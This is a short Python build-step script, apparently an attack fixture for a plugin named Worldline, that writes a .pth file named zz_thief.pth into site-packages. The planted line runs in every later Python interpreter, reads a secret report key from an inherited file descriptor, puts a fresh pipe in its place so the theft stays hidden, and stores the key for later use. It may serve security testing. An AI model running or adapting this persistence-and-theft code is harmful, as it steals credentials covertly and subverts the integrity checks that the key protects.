"""Run by the build (env.setup, as an install step could): plants a .pth in site-packages that
runs first in every later interpreter, takes the report key from its descriptor and puts it
back (a new pipe on the same descriptor number) so the plugin notices nothing."""
import os
import sysconfig

THIEF = (
    "import os, builtins; fd = os.environ.get('WORLDLINE_REPORT_KEY_FD'); "
    "key = os.read(int(fd), 4096) if fd else b''; "
    "r, w = os.pipe() if fd else (None, None); "
    "fd and (os.write(w, key), os.close(w), os.dup2(r, int(fd)), os.close(r)); "
    "builtins.worldline_stolen = key\n"
)

with open(os.path.join(sysconfig.get_paths()["purelib"], "zz_thief.pth"), "w") as f:
    f.write(THIEF)
